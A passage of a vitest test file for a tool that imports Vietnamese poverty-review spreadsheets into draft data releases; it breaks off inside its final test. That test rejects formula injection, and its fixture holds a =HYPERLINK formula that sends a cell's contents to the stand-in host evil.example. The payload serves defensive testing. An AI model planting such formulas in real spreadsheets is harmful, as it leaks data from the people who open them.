import { spawnSync } from 'node:child_process';
import { existsSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { loadSnapshot } from '../src/domain/export/snapshot.ts';
import { tableSheet } from '../src/domain/export/table-sheets.ts';
import { observationsTable, tableCsv } from '../src/domain/export/tables.ts';
import { workbookXlsx } from '../src/domain/export/xlsx.ts';
import { importSpreadsheet, type ImportOptions } from '../src/domain/import/import.ts';
import { nodeWriteOps, type WriteOps } from '../src/domain/release/write.ts';
import { formatImportProblem } from '../src/domain/import/problems.ts';
import { runCli } from '../scripts/cli/run.ts';
import { main as importMain } from '../scripts/import.ts';
import { validate } from '../src/domain/validation/validate.ts';
import { copyFolder } from '../src/domain/copy-folder.ts';
import { MINI_RELEASE, writeMini } from './fixtures/mini.ts';
import { xlsx } from './fixtures/import/xlsx.ts';
import { scratchFiles, tree } from './helpers/files.ts';

const DRAFT = '2026.1';
const { scratch, file } = scratchFiles('import-test-');

function setup() {
  const { root, dataRoot } = writeMini();
  const run = (spreadsheet: string, options: Partial<ImportOptions> = {}) =>
    importSpreadsheet({ dataRoot, releaseId: DRAFT, vintage: '2020-01', file: spreadsheet, contentRoot: path.join(root, 'content'), ...options });
  const draftObservations = () => JSON.parse(readFileSync(path.join(dataRoot, 'releases', DRAFT, 'observations.json'), 'utf8'));
  const messages = (r: Awaited<ReturnType<typeof run>>, level = 'error') => r.problems.filter((p) => p.level === level).map(formatImportProblem);
  return { root, dataRoot, run, draftObservations, messages };
}

const QD7 = 'Quyết định số 7/QĐ-UBND ngày 10/01/2025';
/** Semicolons, BOM, Vietnamese thousands, headers without diacritics in odd case, blank trailing rows. */
const awkwardCsv =
  '\uFEFFMA DON VI;ten don vi;NAM;Tong So Ho;so ho ngheo;SO HO CAN NGHEO;nguon\r\n' +
  `10001;Xã Hoa Thám;2024;1.000;90;100;${QD7}\r\n` +
  `10002;Quý Hoà;2024;1.000;100;100;${QD7}\r\n` +
  `101;Huyện Bắc Khê;2024;2.000;190;200;${QD7}\r\n` +
  ';;;;;;\r\n;;;;;;\r\n\r\n';

describe('import from CSV', () => {
  it('reads an awkward CSV into a new draft copied from the current release', async () => {
    const { dataRoot, run, draftObservations } = setup();
    const result = await run(file('ra-soat.csv', awkwardCsv));
    expect(result.problems.filter((p) => p.level !== 'notice')).toEqual([]);
    expect(result.ok && result.written).toBe(true);
    expect(result.summary).toMatchObject({ rows: 3, added: 0, corrected: 3, removed: 0, createdFrom: MINI_RELEASE, years: [2024] });
    const obs = draftObservations();
    const hoaTham = obs.observations.find((o: any) => o.unit === '10001' && o.year === 2024);
    // the row replaces the record whole: no DTTS columns, no DTTS figures
    expect(hoaTham).toEqual({ vintage: '2020-01', unit: '10001', year: 2024, households: 1000, poor: 90, nearPoor: 100, source: 's-quyet-dinh-so-7-qd-ubnd-ngay-10-01-2025' });
    expect(obs.sources.at(-1)).toEqual({ id: 's-quyet-dinh-so-7-qd-ubnd-ngay-10-01-2025', kind: 'official', title: QD7, date: '2025-01-10' });
    const manifest = JSON.parse(readFileSync(path.join(dataRoot, 'releases', 'index.json'), 'utf8'));
    expect(manifest.current).toBe(MINI_RELEASE);
    expect(manifest.releases.at(-1)).toEqual({ id: DRAFT, title: `Kết quả rà soát hộ nghèo, hộ cận nghèo (bản nháp ${DRAFT})`, publishedAt: null, status: 'draft' });
    for (const name of ['units.json', 'crosswalks.json', 'recognitions.json']) {
      expect(readFileSync(path.join(dataRoot, 'releases', DRAFT, name))).toEqual(readFileSync(path.join(dataRoot, 'releases', MINI_RELEASE, name)));
    }
    expect(validate({ dataRoot, releaseId: DRAFT }).report.errors.filter((e) => !e.rule.startsWith('profile'))).toEqual([]);
  });

  it('imports the review of 2020, a year of the 2020-01 boundaries before the plan\'s baseline, and says that no criterion judges it', async () => {
    const { run, draftObservations } = setup();
    const csv = 'unit,households,poor,near_poor\n10001,1000,450,100\n10002,1000,220,100\n101,2000,670,200\n';
    const result = await run(file('2020.csv', csv), { source: 'Quyết định số 5/QĐ-UBND ngày 12/01/2021', year: 2020 });
    expect(result.ok && result.written).toBe(true);
    expect(draftObservations().observations.filter((x: any) => x.year === 2020)).toHaveLength(3);
    expect(result.problems.filter((p) => p.rule === 'year-before-baseline').map((p) => [p.level, formatImportProblem(p)])).toEqual([[
      'notice',
      'năm 2020 nằm trước năm gốc 2021 của Kế hoạch giai đoạn 2021–2025: số liệu được công bố trên trang nhưng không được đánh giá theo tiêu chí, chỉ tiêu của Kế hoạch đó, cũng không được so sánh với các năm sau (mức giảm của Kế hoạch tính từ năm gốc)',
    ]]);
    // 2019 is before the 2020-01 boundaries, so of no vintage: refused, as before
    const earlier = await run(file('2019.csv', csv), { source: 'x', year: 2019 });
    expect(earlier.problems.filter((p) => p.level === 'error').map((p) => p.rule)).toEqual(['year-outside-vintage']);
  });

  it('comma-separated, no BOM, plain counts, English headers, --source and --year for the whole file', async () => {
    const { run, draftObservations } = setup();
    const csv = 'unit,households,poor,near_poor\n20001,"3000",140,250\n20002,2100,130,200\n20,5100,270,450\n';
    const result = await run(file('en.csv', csv), { vintage: '2025-07', source: 'Báo cáo số 12/BC-SNV', year: 2025 });
    expect(result.ok).toBe(true);
    expect(result.summary).toMatchObject({ rows: 3, corrected: 3 });
    const o = draftObservations().observations.find((x: any) => x.unit === '20001');
    expect(o).toMatchObject({ vintage: '2025-07', year: 2025, poor: 140, source: 's-bao-cao-so-12-bc-snv' });
    expect(result.problems.filter((p) => p.rule === 'year-after-plan' || p.rule === 'year-before-baseline')).toEqual([]);
  });

  it('imports the review of 2026, after the plan period, and says that no criterion judges it', async () => {
    const { run, draftObservations } = setup();
    const csv = 'unit,households,poor,near_poor\n20001,3010,130,230\n20002,2110,100,180\n20,5120,230,410\n';
    const result = await run(file('2026.csv', csv), { vintage: '2025-07', source: 'Quyết định số 99/QĐ-UBND ngày 10/12/2026', year: 2026 });
    expect(result.ok && result.written).toBe(true);
    expect(result.summary).toMatchObject({ rows: 3, added: 3, years: [2026] });
    expect(draftObservations().observations.filter((x: any) => x.year === 2026)).toHaveLength(3);
    expect(result.problems.filter((p) => p.rule === 'year-after-plan').map(formatImportProblem)).toEqual([
      'năm 2026 nằm sau giai đoạn 2021–2025 của Kế hoạch: số liệu được công bố trên trang nhưng không được đánh giá theo tiêu chí, chỉ tiêu của Kế hoạch đó, cũng không được so sánh với các năm trước (chưa xác nhận cùng một chuẩn nghèo)',
    ]);
    expect(result.problems.find((p) => p.rule === 'year-after-plan')!.level).toBe('notice');
  });

  it('rejects a totals row with a clear message and writes nothing', async () => {
    const { dataRoot, run, messages } = setup();
    const before = tree(dataRoot);
    const csv = awkwardCsv.replace(';;;;;;\r\n;;;;;;', `;Tổng cộng;2024;4.000;390;400;${QD7}`);
    const result = await run(file('tong.csv', csv));
    expect(result.ok).toBe(false);
    expect(messages(result)).toEqual([expect.stringMatching(/^dòng 5: "Tổng cộng" là dòng tổng cộng, không nhập được: .*Hãy xóa dòng này/)]);
    expect(tree(dataRoot)).toEqual(before);
  });

  it('rejects a totals row that carries the province code too', async () => {
    const { run, messages } = setup();
    const csv = 'Mã đơn vị,Tên đơn vị,Năm,Tổng số hộ,Số hộ nghèo,Số hộ cận nghèo\n20001,Hoa Thám,2025,3000,150,250\n20,Toàn tỉnh,2025,5100,270,450\n';
    const result = await run(file('toan-tinh.csv', csv), { vintage: '2025-07', source: 'x' });
    expect(messages(result)).toEqual([expect.stringMatching(/^dòng 3: "Toàn tỉnh" \(mã 20\) là dòng tổng cộng/)]);
  });

  it('reports every problem by row and column, in Vietnamese, and writes nothing', async () => {
    const { dataRoot, run, messages } = setup();
    const before = tree(dataRoot);
    const csv =
      'Mã đơn vị;Tên đơn vị;Năm;Tổng số hộ;Số hộ nghèo;Số hộ cận nghèo;Nguồn\n' +
      `10001;Hoa Thám;2024;1.000;12,5;100;${QD7}\n` +
      `10002;Tân Văn;2024;1.000;100;100;${QD7}\n` +
      `10003;Đình Lập;2024;2.000;1.950;100;${QD7}\n` +
      `19999;Không Có;2024;1000;1;1;${QD7}\n` +
      `10004;Tân Văn;2024;1,000;1;1;\n` +
      `10001;Hoa Thám;2024;1000;90;100;${QD7}\n`;
    const result = await run(file('loi.csv', csv));
    expect(result.ok).toBe(false);
    expect(result.written).toBe(false);
    const m = messages(result);
    expect(m).toContain('dòng 2, cột "Số hộ nghèo" (E): "12,5" có dấu phẩy: số hộ phải là số nguyên, viết 1234 hoặc 1.234 (dấu chấm ngăn cách hàng nghìn); dấu phẩy là dấu thập phân nên không rõ ý');
    expect(m).toContain('dòng 3, cột "Tên đơn vị" (B): tên "Tân Văn" không khớp với đơn vị mã 10002 (xã Quý Hòa, thời kỳ 2020-01); kiểm tra lại mã hoặc tên');
    expect(m).toContain('dòng 4, cột "Số hộ nghèo" (E): hộ nghèo + hộ cận nghèo = 2050 vượt tổng số hộ 2000');
    expect(m).toContain('dòng 5, cột "Mã đơn vị" (A): không có đơn vị mã "19999" trong thời kỳ địa giới 2020-01');
    expect(m.filter((x) => x.startsWith('dòng 6'))).toEqual([
      expect.stringMatching(/^dòng 6, cột "Tổng số hộ" \(D\): "1,000" có dấu phẩy/),
      'dòng 6, cột "Nguồn" (G): thiếu nguồn: ghi tên văn bản ở cột "Nguồn" hoặc dùng --source cho cả tệp',
    ]);
    expect(m).toContain('dòng 7, cột "Mã đơn vị" (A): đơn vị mã 10001 năm 2024 đã có ở dòng 2');
    expect(tree(dataRoot)).toEqual(before);
  });

  it('says which columns are missing when no header is found', async () => {
    const { run, messages } = setup();
    const result = await run(file('thieu.csv', 'Mã;Năm;Hộ nghèo\n10001;2024;5\n'), { source: 'x' });
    expect(messages(result)[0]).toMatch(/không tìm thấy dòng tiêu đề .*Thiếu: tổng số hộ .*số hộ cận nghèo/);
  });
});

describe('a household withdrew consent and its profile was deleted', () => {
  const withdraw = (root: string) => rmSync(path.join(root, 'content', 'profiles', 'xa-hoa-tham.md'));
  const recognitions = (dataRoot: string, id: string) => JSON.parse(readFileSync(path.join(dataRoot, 'releases', id, 'recognitions.json'), 'utf8')).recognitions;

  it('a new draft drops the link the published release still has, says so, and the draft validates', async () => {
    const { root, dataRoot, run, messages } = setup();
    withdraw(root);
    const published = readFileSync(path.join(dataRoot, 'releases', MINI_RELEASE, 'recognitions.json'));
    const result = await run(file('ra-soat.csv', awkwardCsv));
    expect(result.ok && result.written).toBe(true);
    expect(messages(result, 'notice')).toContain(
      'khen thưởng "r-2025-001" trong bản nháp không còn liên kết tới hồ sơ "xa-hoa-tham": hồ sơ đã bị xóa khỏi content/profiles (rút lại sự đồng ý); phiên bản đã công bố vẫn giữ nguyên',
    );
    expect(recognitions(dataRoot, DRAFT)[0].profile).toBeUndefined();
    expect({ ...recognitions(dataRoot, DRAFT)[0], profile: 'xa-hoa-tham' }).toEqual(recognitions(dataRoot, MINI_RELEASE)[0]);
    expect(readFileSync(path.join(dataRoot, 'releases', MINI_RELEASE, 'recognitions.json'))).toEqual(published);
    expect(validate({ dataRoot, contentRoot: path.join(root, 'content'), releaseId: DRAFT }).report.errors.filter((e) => e.file.endsWith('recognitions.json'))).toEqual([]);
  });

  it('a draft already under way loses the copied link at its next import', async () => {
    const { root, dataRoot, run } = setup();
    expect((await run(file('ra-soat.csv', awkwardCsv))).written).toBe(true);
    expect(recognitions(dataRoot, DRAFT)[0].profile).toBe('xa-hoa-tham');
    withdraw(root);
    const result = await run(file('ra-soat.csv', awkwardCsv));
    expect(result.ok && result.written).toBe(true);
    expect(recognitions(dataRoot, DRAFT)[0].profile).toBeUndefined();
  });

  it('a slug no published release gives that award is a typo in the draft: still an error, nothing written', async () => {
    const { dataRoot, run, messages } = setup();
    expect((await run(file('ra-soat.csv', awkwardCsv))).written).toBe(true);
    const draftFile = path.join(dataRoot, 'releases', DRAFT, 'recognitions.json');
    writeFileSync(draftFile, readFileSync(draftFile, 'utf8').replace('"profile": "xa-hoa-tham"', '"profile": "xa-hoa-thamm"'));
    const before = tree(dataRoot);
    const result = await run(file('ra-soat.csv', awkwardCsv));
    expect(result.ok).toBe(false);
    expect(messages(result)).toEqual([`releases/${DRAFT}/recognitions.json:/recognitions/0/profile  không có hồ sơ điển hình "xa-hoa-thamm" trong content/profiles`]);
    expect(tree(dataRoot)).toEqual(before);
  });
});

describe('import from .xlsx', () => {
  it('reads a two-row header with merged cells under a title, skips the numbering row, footers and blank rows', async () => {
    const { run, draftObservations, messages } = setup();
    const sheet = xlsx({
      sharedStrings: true,
      rows: [
        ['BIỂU TỔNG HỢP KẾT QUẢ RÀ SOÁT HỘ NGHÈO, HỘ CẬN NGHÈO NĂM 2024'],
        ['STT', 'Mã ĐVHC', 'Tên đơn vị', 'Tổng số hộ', 'Hộ nghèo', null, 'Hộ cận nghèo', null],
        [null, null, null, null, 'Số hộ', 'Tỷ lệ (%)', 'Số hộ', 'Tỷ lệ (%)'],
        ['A', 'B', 'C', '1', '2', '3', '4', '5'],
        [1, 10003, 'TT. Đình Lập', 2000, 140, 7, 200, 10],
        [2, 10004, 'Tân Văn', '1.000', 60, 6, 50, 5.5],
        [3, 102, 'Na Sầm', 3000, 200, 6.67, 250, 8.33],
        [],
        [null, 'Người lập biểu'],
        [],
        [],
      ],
      merges: ['A1:H1', 'A2:A3', 'B2:B3', 'C2:C3', 'D2:D3', 'E2:F2', 'G2:H2'],
    });
    const result = await run(file('bieu.xlsx', sheet), { source: QD7, year: 2024 });
    expect(messages(result)).toEqual([]);
    expect(result.ok).toBe(true);
    expect(result.summary.rows).toBe(3);
    // 5.5 written for 50 of 1,000 (5.00%): a warning, the rate is recomputed
    expect(messages(result, 'warning')).toEqual([
      'trang tính "Sheet1", dòng 6, cột "Hộ cận nghèo – Tỷ lệ (%)" (H): tỷ lệ ghi trong bảng (5,5) khác tỷ lệ tính từ số hộ (5,00%); trang web dùng tỷ lệ tính từ số hộ',
    ]);
    expect(messages(result, 'notice')).toEqual(['trang tính "Sheet1", dòng 4: dòng đánh số cột, bỏ qua', 'trang tính "Sheet1", dòng 9: dòng chữ ký dưới bảng (không có mã đơn vị và số liệu), bỏ qua: "Người lập biểu"']);
    const o = draftObservations().observations.find((x: any) => x.unit === '10004' && x.year === 2024);
    expect(o).toMatchObject({ households: 1000, poor: 60, nearPoor: 50 });
  });

  it('rejects a totals row in a sheet and refuses decimals in counts', async () => {
    const { run, messages } = setup();
    const sheet = xlsx({
      rows: [
        ['Mã đơn vị', 'Tên đơn vị', 'Năm', 'Tổng số hộ', 'Số hộ nghèo', 'Số hộ cận nghèo'],
        [10003, 'Đình Lập', 2024, 2000, 140.5, 200],
        [null, 'Cộng', 2024, 3000, 200, 250],
      ],
    });
    const result = await run(file('cong.xlsx', sheet), { source: QD7 });
    expect(messages(result)).toEqual([
      'trang tính "Sheet1", dòng 2, cột "Số hộ nghèo" (E): 140,5 không phải số nguyên; số hộ phải là số nguyên',
      expect.stringMatching(/^trang tính "Sheet1", dòng 3: "Cộng" là dòng tổng cộng/),
    ]);
  });
});

describe('what an import may touch', () => {
  it.each([
    ['no draft yet: a new one after every release', false, 'Hãy nhập vào một bản nháp mới 2025.2 (--release 2025.2).'],
    ['a draft under way: that draft, not a second one beside it', true, `Hãy nhập vào bản nháp đang có ${DRAFT} (--release ${DRAFT}).`],
  ])('refuses a published release and leaves every byte as it was; %s', async (_, withDraft, instead) => {
    const { dataRoot, run } = setup();
    if (withDraft) expect((await run(file('a.csv', awkwardCsv))).written).toBe(true);
    const before = tree(dataRoot);
    const result = await run(file('a.csv', awkwardCsv), { releaseId: MINI_RELEASE });
    expect(result.ok).toBe(false);
    expect(result.refused).toBe(`phiên bản ${MINI_RELEASE} đang ở trạng thái "đã công bố" và không được sửa: các tệp của nó giữ nguyên từng byte. ${instead}`);
    expect(tree(dataRoot)).toEqual(before);
  });

  it('--dry-run reports what it would do and writes nothing', async () => {
    const { dataRoot, run } = setup();
    const before = tree(dataRoot);
    const result = await run(file('a.csv', awkwardCsv), { dryRun: true });
    expect(result.ok).toBe(true);
    expect(result.written).toBe(false);
    expect(result.summary.corrected).toBe(3);
    expect(tree(dataRoot)).toEqual(before);
  });

  it('importing the same file twice gives the same bytes', async () => {
    const { dataRoot, run } = setup();
    const input = file('a.csv', awkwardCsv);
    await run(input);
    const once = tree(path.join(dataRoot, 'releases'));
    const again = await run(input);
    expect(again.ok).toBe(true);
    expect(again.files).toEqual([]);
    expect(again.summary).toMatchObject({ corrected: 0, unchanged: 3 });
    expect(tree(path.join(dataRoot, 'releases'))).toEqual(once);
  });

  it('--replace-years removes the records of those years that the file lacks, once --delete confirms how many', async () => {
    const { dataRoot, run, draftObservations } = setup();
    const csv = 'Mã đơn vị,Năm,Tổng số hộ,Số hộ nghèo,Số hộ cận nghèo\n10001,2024,1000,100,100\n10002,2024,1000,100,100\n101,2024,2000,200,200\n';
    const before = tree(dataRoot);
    // the dry run says how many records would go and which
    const dry = await run(file('thay.csv', csv), { source: 'x', replaceYears: true, dryRun: true });
    expect(dry.ok).toBe(true);
    expect(dry.summary).toMatchObject({ removed: 3, removedUnits: ['thị trấn Đình Lập (10003) năm 2024', 'xã Tân Văn (10004) năm 2024', 'thành phố Na Sầm (102) năm 2024'] });
    expect(dry.problems.find((p) => p.rule === 'replace-years-unconfirmed')).toMatchObject({ level: 'warning', message: expect.stringContaining('chạy lại với --delete 3') });
    // without --delete, or with another count, nothing is removed
    for (const deleteCount of [undefined, 2]) {
      const refused = await run(file('thay.csv', csv), { source: 'x', replaceYears: true, deleteCount });
      expect(refused.ok, String(deleteCount)).toBe(false);
      expect(refused.problems.filter((p) => p.level === 'error').map((p) => p.rule)).toEqual(['replace-years-unconfirmed']);
      expect(tree(dataRoot)).toEqual(before);
    }
    const result = await run(file('thay.csv', csv), { source: 'x', replaceYears: true, deleteCount: 3 });
    expect(result.ok).toBe(true);
    expect(result.summary).toMatchObject({ removed: 3 });
    const kept = draftObservations().observations.filter((o: any) => o.vintage === '2020-01' && o.year === 2024).map((o: any) => o.unit);
    expect(kept).toEqual(['10001', '10002', '101']);
  });

  it('an export of observations.csv imports back to the same observations, byte for byte', async () => {
    const { dataRoot, run } = setup();
    const csv = tableCsv(observationsTable(loadSnapshot(dataRoot, MINI_RELEASE)));
    const exported = file('observations.csv', csv);
    const first = await run(exported, { vintage: '2020-01' });
    expect(first.ok).toBe(true);
    expect(first.summary.otherVintageRows).toBe(3);
    const second = await run(exported, { vintage: '2025-07' });
    expect(second.ok).toBe(true);
    expect(first.summary.unchanged + second.summary.unchanged).toBe(first.summary.rows + second.summary.rows);
    expect(readFileSync(path.join(dataRoot, 'releases', DRAFT, 'observations.json'))).toEqual(
      readFileSync(path.join(dataRoot, 'releases', MINI_RELEASE, 'observations.json')),
    );
  });

  it('so does observations.xlsx, the file the README tells staff to edit in Excel (notes above its header, headings in words)', async () => {
    const { dataRoot, run } = setup();
    const table = observationsTable(loadSnapshot(dataRoot, MINI_RELEASE));
    const bytes = await workbookXlsx([tableSheet(table, ['Vì người nghèo Lạng Sơn, phiên bản dữ liệu 2025.1', 'DỮ LIỆU MINH HỌA'])], { title: table.title, creator: 'x', date: '2026-02-10' });
    const exported = file('observations.xlsx', bytes);
    const first = await run(exported, { vintage: '2020-01' });
    expect(first.problems.filter((p) => p.level === 'error')).toEqual([]);
    const second = await run(exported, { vintage: '2025-07' });
    expect(second.ok).toBe(true);
    expect(first.summary.unchanged + second.summary.unchanged).toBe(first.summary.rows + second.summary.rows);
    expect(readFileSync(path.join(dataRoot, 'releases', DRAFT, 'observations.json'))).toEqual(
      readFileSync(path.join(dataRoot, 'releases', MINI_RELEASE, 'observations.json')),
    );
  });
});

describe('importer without traps (issue 10)', () => {
  const HEADER = 'Mã đơn vị,Năm,Tổng số hộ,Số hộ nghèo,Số hộ cận nghèo\n';

  it('says only the wrong vintage, not the code and name errors it causes on the same rows', async () => {
    const { run } = setup();
    // today's codes and names with 2025's figures, imported as the 2020-01 boundaries
    const csv = 'Mã đơn vị,Tên đơn vị,Năm,Tổng số hộ,Số hộ nghèo,Số hộ cận nghèo\n20001,Xã Hoa Thám,2025,3010,130,230\n10002,Xã Đình Lập,2025,2110,100,180\n';
    const result = await run(file('nham-thoi-ky.csv', csv), { source: 'x' });
    expect(result.problems.filter((p) => p.level === 'error').map((p) => [p.rule, p.rows ?? p.row])).toEqual([['year-outside-vintage', [2, 3]]]);
    // With the vintage right, the same name errors would be said: a code of the period given, written with another unit's name.
    const named = await run(file('ten-sai.csv', 'Mã đơn vị,Tên đơn vị,Năm,Tổng số hộ,Số hộ nghèo,Số hộ cận nghèo\n10002,Xã Đình Lập,2024,2110,100,180\n'), { source: 'x' });
    expect(named.problems.filter((p) => p.level === 'error').map((p) => p.rule)).toEqual(['name-mismatch']);
  });

  it('refuses a year outside the vintage\'s period, at its cell, naming the vintage to use', async () => {
    const { dataRoot, run, messages } = setup();
    const before = tree(dataRoot);
    // 2025 figures filed under 2020-01 would attach to the old communes that share the codes
    const result = await run(file('nam-sai.csv', HEADER + '10001,2025,1000,90,100\n'), { source: 'x' });
    expect(result.ok).toBe(false);
    expect(messages(result)).toEqual([
      'dòng 2, cột "Năm" (B): năm 2025 nằm ngoài thời kỳ địa giới 2020-01 (01/01/2020–30/11/2024): mã đơn vị của năm đó thuộc thời kỳ khác, cùng một mã có thể là một đơn vị khác; số liệu năm 2025 nhập với --vintage 2025-07',
    ]);
    // the same with --year for the whole file: said once, not once a row
    const whole = await run(file('nam-sai.csv', 'Mã đơn vị,Tổng số hộ,Số hộ nghèo,Số hộ cận nghèo\n10001,1000,90,100\n10002,1000,90,100\n'), { source: 'x', year: 2025 });
    expect(whole.problems.filter((p) => p.level === 'error').map((p) => [p.rule, p.row])).toEqual([['year-outside-vintage', undefined]]);
    expect(tree(dataRoot)).toEqual(before);
  });

  it('refuses a year not yet come, at its cell, with the year and today in Vietnam, and writes nothing', async () => {
    const { dataRoot, run } = setup();
    const before = tree(dataRoot);
    const today = '2026-12-05';
    // 2099 and 2031 (2026 mistyped) beside a row of this year's review, which is fine in December
    const csv = HEADER + ['20001,2099,3010,130,230', '20002,2026,2110,100,180', '20,2031,5120,230,410'].map((l) => `${l}\n`).join('');
    const result = await run(file('nam-toi.csv', csv), { vintage: '2025-07', source: 'x', today });
    expect(result).toMatchObject({ ok: false, written: false });
    const why = 'chưa tới: hôm nay ở Việt Nam là 05/12/2026, mà kết quả rà soát của một năm chỉ có từ cuối năm đó (rà soát vào các tháng cuối năm, phê duyệt vào tháng 12 hoặc tháng 1 năm sau). Sửa lại năm: có thể là gõ nhầm (2062 thay cho 2026)';
    expect(result.problems.filter((p) => p.level === 'error').map((p) => [p.rule, formatImportProblem(p)])).toEqual([
      ['year-in-future', `dòng 2, cột "Năm" (B): năm 2099 ${why}`],
      ['year-in-future', `dòng 4, cột "Năm" (B): năm 2031 ${why}`],
    ]);
    expect(result.problems.filter((p) => p.rule === 'year-after-plan').map((p) => p.message)).toEqual([expect.stringMatching(/^năm 2026 nằm sau/)]);
    // the same with --year for the whole file: said once, naming the option
    const whole = await run(file('nam-toi.csv', 'Mã đơn vị,Tổng số hộ,Số hộ nghèo,Số hộ cận nghèo\n20001,3010,130,230\n20002,2110,100,180\n'), { vintage: '2025-07', source: 'x', year: 2027, today });
    expect(whole.problems.filter((p) => p.level === 'error').map((p) => [p.rule, p.row, p.message])).toEqual([['year-in-future', undefined, `năm 2027 (--year) ${why}`]]);
    expect(tree(dataRoot)).toEqual(before);
  });

  it('checks the rows and the draft at one today: the 2027 review imported in December 2027 is written', async () => {
    const { run, draftObservations } = setup();
    const csv = HEADER + ['20001,2027,3010,130,230', '20002,2027,2110,100,180', '20,2027,5120,230,410'].map((l) => `${l}\n`).join('');
    const result = await run(file('2027.csv', csv), { vintage: '2025-07', source: 'x', today: '2027-12-20' });
    expect(result.problems.filter((p) => p.level === 'error')).toEqual([]);
    expect(result.written).toBe(true);
    expect(draftObservations().observations.filter((o: any) => o.year === 2027)).toHaveLength(3);
  });

  it('refuses a --year that contradicts the year column, naming both, once for the rows that differ (it kept the cells without a word)', async () => {
    const { dataRoot, run } = setup();
    const before = tree(dataRoot);
    const conflicts = (r: Awaited<ReturnType<typeof run>>) => r.problems.filter((p) => p.rule === 'year-conflict').map(formatImportProblem);
    const all = await run(file('nam.csv', HEADER + '10001,2024,1000,90,100\n10002,2024,1000,100,100\n'), { source: 'x', year: 2099 });
    expect(all).toMatchObject({ ok: false, written: false });
    expect(conflicts(all)).toEqual(['dòng 2–3 (2 dòng), cột "Năm" (B): năm 2024 khác năm 2099 ở --year, mà --year chỉ dùng cho dòng để trống năm: bỏ --year hoặc sửa năm trong tệp']);
    // A cell equal to --year, or a blank one that --year fills, is no conflict.
    const some = await run(file('nam.csv', HEADER + '10001,2024,1000,90,100\n10002,2023,1000,100,100\n10003,,1000,90,100\n'), { source: 'x', year: 2024 });
    expect(conflicts(some)).toEqual(['dòng 3, cột "Năm" (B): năm 2023 khác năm 2024 ở --year, mà --year chỉ dùng cho dòng để trống năm: bỏ --year hoặc sửa năm trong tệp']);
    expect(tree(dataRoot)).toEqual(before);
  });

  it('reads the year from the sheet\'s title when there is no year column', async () => {
    const { run, draftObservations, messages } = setup();
    const sheet = xlsx({
      rows: [['BIỂU TỔNG HỢP KẾT QUẢ RÀ SOÁT HỘ NGHÈO, HỘ CẬN NGHÈO NĂM 2024'], ['Mã đơn vị', 'Tổng số hộ', 'Số hộ nghèo', 'Số hộ cận nghèo'], ['10001', 1000, 100, 101], ['101', 2000, 200, 201]],
    });
    const result = await run(file('tieu-de.xlsx', sheet), { source: QD7 });
    expect(messages(result)).toEqual([]);
    expect(messages(result, 'notice')).toContain('trang tính "Sheet1", dòng 1: không có cột năm: năm 2024 lấy từ tiêu đề "BIỂU TỔNG HỢP KẾT QUẢ RÀ SOÁT HỘ NGHÈO, HỘ CẬN NGHÈO NĂM 2024"');
    expect(draftObservations().observations.find((o: any) => o.unit === '10001' && o.year === 2024)).toMatchObject({ nearPoor: 101 });
    const none = await run(file('khong-nam.csv', 'Kết quả rà soát\nMã đơn vị,Tổng số hộ,Số hộ nghèo,Số hộ cận nghèo\n10001,1000,100,101\n'), { source: QD7 });
    expect(messages(none)).toEqual([expect.stringMatching(/Thiếu: năm .*ghi năm trong tiêu đề phía trên bảng \("… NĂM 2025"\) hoặc dùng --year 2025\.$/)]);
  });

  it('--sheet picks a worksheet; every message names the sheet read', async () => {
    const { run, messages } = setup();
    const book = xlsx({
      sheets: [
        { name: 'Hướng dẫn', rows: [['Điền số liệu ở trang sau']] },
        { name: 'KQ 2024', rows: [['Mã đơn vị', 'Năm', 'Tổng số hộ', 'Số hộ nghèo', 'Số hộ cận nghèo'], ['10001', 2024, 1000, '12,5', 101], ['10002', 2024, 1000, 100, 100]], merges: [] },
      ],
    });
    const first = await run(file('hai-trang.xlsx', book), { source: QD7 });
    expect(first.summary).toMatchObject({ sheet: 'Hướng dẫn', sheets: ['Hướng dẫn', 'KQ 2024'] });
    expect(messages(first)[0]).toMatch(/^trang tính "Hướng dẫn": không tìm thấy dòng tiêu đề/);
    const second = await run(file('hai-trang.xlsx', book), { source: QD7, sheet: 'KQ 2024' });
    expect(second.summary.sheet).toBe('KQ 2024');
    expect(messages(second)).toEqual([expect.stringMatching(/^trang tính "KQ 2024", dòng 2, cột "Số hộ nghèo" \(D\): "12,5" có dấu phẩy/)]);
  });

  it('summarises a warning repeated on many rows: "N mã bị Excel bỏ số 0 ở đầu"', async () => {
    const { readRows } = await import('../src/domain/import/rows.ts');
    const { SourceRegistry } = await import('../src/domain/import/sources.ts');
    const { summariseRepeated } = await import('../src/domain/import/problems.ts');
    const codes = ['05971', '05974', '05977', '05980', '05983'];
    const vintage = { id: '2025-07', validFrom: '2025-07-01', validTo: null, units: codes.map((code) => ({ code, level: 'commune' as const, name: `X${code}`, type: 'xã' as const, parent: '20' })) };
    const grid = { kind: 'csv' as const, merges: [], rows: [['Mã', 'Năm', 'Tổng số hộ', 'Số hộ nghèo', 'Số hộ cận nghèo'], ...codes.map((c) => [Number(c), 2025, 1000, 10, 10])] };
    const read = readRows(grid, { vintage, sources: new SourceRegistry([]), source: 'QĐ' });
    expect(summariseRepeated(read.problems).filter((p) => p.level === 'warning').map(formatImportProblem)).toEqual([
      '5 mã bị Excel bỏ số 0 ở đầu (các dòng 2–6), đã được hiểu đúng; nên định dạng cột mã là Văn bản (Text)',
    ]);
  });

  it('sets the draft\'s title and notes from --title and --notes, on creation and after', async () => {
    const { dataRoot, run } = setup();
    const manifest = () => JSON.parse(readFileSync(path.join(dataRoot, 'releases', 'index.json'), 'utf8')).releases.find((r: any) => r.id === DRAFT);
    await run(file('a.csv', awkwardCsv), { title: 'Kết quả rà soát năm 2024', notes: 'Sửa  số hộ xã Hoa Thám.' });
    expect(manifest()).toMatchObject({ title: 'Kết quả rà soát năm 2024', notes: 'Sửa số hộ xã Hoa Thám.', status: 'draft' });
    const again = await run(file('a.csv', awkwardCsv), { notes: 'Số liệu chính thức năm 2024.' });
    expect(again.files).toEqual(['releases/index.json']);
    expect(manifest()).toMatchObject({ title: 'Kết quả rà soát năm 2024', notes: 'Số liệu chính thức năm 2024.' });
  });

  it('rejects formula-like text in sources and names, at the cell or for the flag', async () => {
    const { dataRoot, run, messages } = setup();
    const before = tree(dataRoot);
    const csv = 'Mã đơn vị,Tên đơn vị,Năm,Tổng số hộ,Số hộ nghèo,Số hộ cận nghèo,Nguồn\n' +
      `10001,Hoa Thám,2024,1000,100,101,"=HYPERLINK(""http://evil.example/?x=""&A1,""x"")"\n` +
      `101,@SUM(1+1),2024,2000,200,201,${QD7}\n`;
